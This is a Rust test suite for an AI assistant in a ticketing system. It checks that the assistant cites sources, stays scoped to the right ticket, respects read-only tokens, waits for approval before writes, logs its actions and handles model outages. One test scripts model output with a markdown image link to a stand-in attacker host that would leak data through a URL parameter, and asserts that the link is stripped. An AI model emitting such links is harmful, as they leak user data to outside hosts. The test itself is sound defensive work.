//! With a language model that the test holds in its hand.

use atc_core::chat::{ChatErrorKind, ChatMessage};
use atc_testkit::{TestApp, TestDb, ai_settings, answer, on_both_engines};
use serde_json::{Value, json};

use super::{REFUND, calling, results, say, tickets, write_article};
use crate::fixtures::{People, create_ticket, people};

on_both_engines![
    a_model_looks_up_and_cites,
    a_mark_or_link_that_a_model_invents_is_dropped,
    a_model_writes_where_the_conversation_is_about,
    staff_see_what_leaves_the_house_first,
    a_token_that_only_reads_writes_nothing,
    a_model_that_is_down_is_no_error,
    a_model_that_never_ends_is_ended,
    history_is_told_and_cut,
    every_write_is_in_the_ledger,
    with_confirm_nothing_is_written_before_it_is_approved,
];

pub async fn with_model(db: &TestDb) -> (TestApp, People) {
    let app = TestApp::new(db);
    let people = people(&app).await;
    app.with_agents(ai_settings(&["first"])).await;
    (app, people)
}

async fn a_model_looks_up_and_cites(db: &TestDb) {
    let (app, people) = with_model(db).await;
    write_article(&app, &people.agent, REFUND, "Open Billing and press Refund.").await;
    create_ticket(&app, &people.user, "Refund of October").await;
    create_ticket(&app, &people.agent, "Refund of the agent").await;
    app.model.answer(Ok(calling(&[
        ("search_knowledge_base", json!({"query": "refund duplicate charge"})),
        ("search_tickets", json!({"query": "refund"})),
    ])));
    app.model.say("Press Refund in Billing [S1]; your ticket is open [S2].");
    let question = json!({"message": "How do I get my money back?"});
    let told = say(&app, &people.user, &question).await.expect(200);
    let kinds: Vec<_> = told.body["citations"]
        .as_array()
        .expect("citations")
        .iter()
        .map(|c| (c["mark"].clone(), c["kind"].clone(), c["number"].clone()))
        .collect();
    assert_eq!(
        kinds,
        [(json!("S1"), json!("article"), Value::Null), (json!("S2"), json!("ticket"), json!(1))]
    );
    assert_eq!((told.text("/provider"), told.text("/model")), ("test".into(), "first".into()));
    let asked = app.model.asked();
    assert!(asked[0].tools.iter().any(|t| t.name == "search_knowledge_base"));
    let given = results(&asked[1]);
    assert!(given[0].starts_with("<data-") && given[0].contains("press Refund"), "{given:?}");
    assert!(!given[1].contains("of the agent"), "another's ticket: {}", given[1]);
    // What was cited keeps its mark in the next turn.
    app.model.say("As I said [S1].");
    let more = json!({"message": "Say again?", "conversation_id": told.body["conversation_id"]});
    let told = say(&app, &people.user, &more).await.expect(200);
    assert_eq!(told.text("/citations/0/title"), REFUND);
}

async fn a_mark_or_link_that_a_model_invents_is_dropped(db: &TestDb) {
    let (app, people) = with_model(db).await;
    app.model.say(
        "True [S1]. ![x](https://evil.example/?d=1) <b>See</b> https://shop.example.com/cart or \
         https://evil.example.",
    );
    let question = json!({"message": "What is on https://shop.example.com/cart ?"});
    let told = say(&app, &people.user, &question).await.expect(200);
    let text = told.text("/message");
    assert!(text.contains("https://shop.example.com/cart"), "the person's own: {text}");
    assert!(
        !text.contains("evil.example") && !text.contains("<b>") && !text.contains("[S1]"),
        "{text}"
    );
    assert_eq!(told.body["citations"], json!([]));
}

async fn a_model_writes_where_the_conversation_is_about(db: &TestDb) {
    let (app, people) = with_model(db).await;
    let about = create_ticket(&app, &people.user, "Mine").await.text("/id");
    create_ticket(&app, &people.user, "Mine as well").await;
    app.model.answer(Ok(calling(&[
        ("add_comment", json!({"body": "It is worse today."})),
        ("add_comment", json!({"body": "Wrong place", "ticket": 2})),
        ("create_ticket", json!({"title": "New one", "description": "Another matter."})),
        ("add_comment", json!({"body": "More of it", "ticket": "#3"})),
        ("set_priority", json!({"priority": "low"})),
    ])));
    app.model.say("Done.");
    let words = json!({"message": "Tell them that it is worse.", "ticket_id": about});
    let told = say(&app, &people.user, &words).await.expect(200);
    let given = results(&app.model.asked()[1]);
    assert!(given[0].starts_with("Done"), "{given:?}");
    assert!(given[1].contains("not about ticket #2"), "{given:?}");
    assert!(given[2].contains("#3"), "{given:?}");
    assert!(given[3].starts_with("Done"), "a ticket that it made: {given:?}");
    assert!(given[4].contains("no such tool"), "{given:?}");
    assert_eq!(told.body["actions"].as_array().map(Vec::len), Some(3));
    let counts: Vec<_> = tickets(&app, &people.user)
        .await
        .iter()
        .map(|t| (t["number"].as_i64(), t["comment_count"].as_i64()))
        .collect();
    assert_eq!(counts, [(Some(3), Some(1)), (Some(2), Some(0)), (Some(1), Some(1))]);
}

async fn staff_see_what_leaves_the_house_first(db: &TestDb) {
    let (app, people) = with_model(db).await;
    let about = create_ticket(&app, &people.user, "Theirs").await.text("/id");
    app.model.answer(Ok(calling(&[
        ("add_comment", json!({"body": "For the requester", "internal": false})),
        ("add_comment", json!({"body": "For us"})),
    ])));
    app.model.say("See my proposal.");
    let words = json!({"message": "Answer them.", "ticket_id": about});
    let told = say(&app, &people.agent, &words).await.expect(200);
    let states: Vec<_> =
        told.body["actions"].as_array().expect("two").iter().map(|a| a["state"].clone()).collect();
    assert_eq!(states, ["proposed", "done"]);
    let path = format!("/tickets/{about}/comments");
    let seen = app.get(&path).bearer(&people.user).await.expect(200);
    assert_eq!(seen.body["items"], json!([]));
    let approve = format!(
        "/assistant/conversations/{}/actions/{}/approve",
        told.text("/conversation_id"),
        told.text("/actions/0/id")
    );
    app.post(&approve).bearer(&people.agent).await.expect(200);
    app.post(&approve).bearer(&people.agent).await.expect(200);
    let seen = app.get(&path).bearer(&people.user).await.expect(200);
    assert_eq!(seen.body["items"].as_array().map(Vec::len), Some(1));
}

async fn a_token_that_only_reads_writes_nothing(db: &TestDb) {
    let (app, people) = with_model(db).await;
    let wanted = json!({"name": "reader", "scopes": ["tickets:read"]});
    let token = app.post("/tokens").bearer(&people.user).json(&wanted).await.expect(201);
    let token = token.text("/token");
    app.model.answer(Ok(calling(&[
        ("create_ticket", json!({"title": "No", "description": "No"})),
        ("search_knowledge_base", json!({"query": "x"})),
    ])));
    app.model.say("I may not.");
    let words = json!({"message": "Create a ticket about the broken gate"});
    let told = say(&app, &token, &words).await.expect(200);
    let offered: Vec<_> = app.model.asked()[0].tools.iter().map(|t| t.name.clone()).collect();
    assert_eq!(offered, ["search_tickets", "get_ticket"]);
    assert_eq!(told.body["actions"], json!([]));
    assert!(tickets(&app, &people.user).await.is_empty());
    // The embedded engine holds to it as well.
    app.model.fail(ChatErrorKind::Overloaded);
    let told = say(&app, &token, &words).await.expect(200);
    assert_eq!((&told.body["degraded"], &told.body["actions"]), (&json!(true), &json!([])));
    assert!(tickets(&app, &people.user).await.is_empty());
    let id = told.text("/conversation_id");
    app.delete(&format!("/assistant/conversations/{id}")).bearer(&token).await.expect(403);
}

async fn a_model_that_is_down_is_no_error(db: &TestDb) {
    let (app, people) = with_model(db).await;
    write_article(&app, &people.agent, REFUND, "Open Billing and press Refund.").await;
    app.model.fail(ChatErrorKind::Unreachable);
    let question = json!({"message": "how to get a refund for a duplicate charge"});
    let told = say(&app, &people.user, &question).await.expect(200);
    assert_eq!((told.text("/provider"), &told.body["degraded"]), ("local".into(), &json!(true)));
    assert!(told.text("/message").contains("press Refund"), "{}", told.body);
    // It falls silent after it made a ticket: the ticket is told of, and made once.
    let ticket = json!({"title": "Made", "description": "Made by a model"});
    app.model.answer(Ok(calling(&[("create_ticket", ticket)])));
    app.model.fail(ChatErrorKind::TimedOut);
    let words = json!({"message": "Create a ticket about the broken gate"});
    let told = say(&app, &people.user, &words).await.expect(200);
    assert_eq!(told.body["degraded"], true);
    assert!(told.text("/message").contains("#1"), "{}", told.body);
    assert_eq!(tickets(&app, &people.user).await.len(), 1);
    // It says nothing at all.
    app.model.say(" \n ");
    let told = say(&app, &people.user, &question).await.expect(200);
    assert_eq!(told.body["degraded"], true);
}

async fn a_model_that_never_ends_is_ended(db: &TestDb) {
    let (app, people) = with_model(db).await;
    app.model.script(|request| {
        let call = calling(&[("search_tickets", json!({"query": "printer"}))]);
        Ok(if request.tools.is_empty() { answer("I stop.") } else { call })
    });
    let told = say(&app, &people.user, &json!({"message": "Look for ever"})).await.expect(200);
    assert_eq!(told.text("/message"), "I stop.");
    assert_eq!(app.model.asked().len(), 7, "as many steps as are allowed, and the last word");
    // Many calls at once are not all run.
    let many: Vec<_> = (0..40).map(|_| ("search_tickets", json!({"query": "printer"}))).collect();
    app.model.answer(Ok(calling(&many)));
    app.model.say("Enough.");
    say(&app, &people.user, &json!({"message": "Look a lot"})).await.expect(200);
    let given = results(app.model.asked().last().expect("asked"));
    assert_eq!(given.iter().filter(|r| r.contains("too many calls")).count(), 32);
}

async fn history_is_told_and_cut(db: &TestDb) {
    let app = TestApp::with(db, |config, _| config.assistant.history_tokens = 500);
    let people = people(&app).await;
    app.with_agents(ai_settings(&["first"])).await;
    app.model.script(|_| Ok(answer("Yes.")));
    let first = json!({"message": format!("First {}", "x".repeat(1_900))});
    let told = say(&app, &people.user, &first).await.expect(200);
    let id = told.body["conversation_id"].clone();
    for n in 2..4 {
        let words = json!({"message": format!("Number {n}"), "conversation_id": id});
        say(&app, &people.user, &words).await.expect(200);
    }
    let asked = app.model.asked();
    assert_eq!(asked[1].messages.len(), 3, "{:?}", asked[1].messages);
    let ChatMessage::User(words) = &asked[1].messages[0] else { panic!("the person begins") };
    assert!(words.starts_with("First "));
    let long = json!({"message": "y".repeat(1_000), "conversation_id": id});
    say(&app, &people.user, &long).await.expect(200);
    let asked = app.model.asked();
    let ChatMessage::User(words) = &asked[3].messages[0] else { panic!("the person begins") };
    assert!(words.contains("left out") && words.contains("Number 2"), "{words}");
}

async fn every_write_is_in_the_ledger(db: &TestDb) {
    let (app, people) = with_model(db).await;
    let ticket = json!({"title": "Made", "description": "Made by a model"});
    app.model.answer(Ok(calling(&[
        ("create_ticket", ticket),
        ("add_comment", json!({"body": "And a comment", "ticket": 1})),
    ])));
    app.model.say("Done.");
    let words = json!({"message": "Create a ticket about the broken gate"});
    let told = say(&app, &people.user, &words).await.expect(200);
    let id = told.text("/conversation_id");
    let rows =
        app.get("/ai/decisions?agent=customer_support").bearer(&people.agent).await.expect(200);
    let rows: Vec<_> = rows.body["items"]
        .as_array()
        .expect("rows")
        .iter()
        .filter(|row| row["conversation_id"] == id.as_str())
        .cloned()
        .collect();
    let actions: Vec<_> = rows.iter().map(|row| row["action"].clone()).collect();
    assert_eq!(actions, ["comment_added", "ticket_created"], "{rows:?}");
    for row in &rows {
        assert_eq!((&row["ticket_number"], &row["model"]), (&json!(1), &json!("first")));
    }
    // The comment is put back.
    let revert = format!("/ai/decisions/{}/revert", rows[0]["id"].as_str().expect("an id"));
    app.post(&revert).bearer(&people.agent).await.expect(200);
    let comments = app.get("/tickets/1/comments").bearer(&people.user).await.expect(200);
    assert_eq!(comments.body["items"], json!([]));
}

async fn with_confirm_nothing_is_written_before_it_is_approved(db: &TestDb) {
    let (app, people) = with_model(db).await;
    let words = json!({
        "message": "Create a ticket: my keyboard misses the letter E.", "confirm": true
    });
    let ticket = json!({"title": "Keyboard misses E", "description": "It misses the letter E."});
    app.model.answer(Ok(calling(&[("create_ticket", ticket)])));
    app.model.say("I propose a ticket; please approve it.");
    let told = say(&app, &people.user, &words).await.expect(200);
    assert_eq!(told.text("/actions/0/state"), "proposed");
    assert_eq!(told.text("/actions/0/draft/title"), "Keyboard misses E");
    assert!(results(&app.model.asked()[1])[0].contains("Nothing is written yet"));
    assert!(tickets(&app, &people.user).await.is_empty());
    let path = format!(
        "/assistant/conversations/{}/actions/{}/approve",
        told.text("/conversation_id"),
        told.text("/actions/0/id")
    );
    let done = app.post(&path).bearer(&people.user).await.expect(200);
    assert_eq!(done.text("/ticket/title"), "Keyboard misses E");
    assert_eq!(tickets(&app, &people.user).await.len(), 1);
}
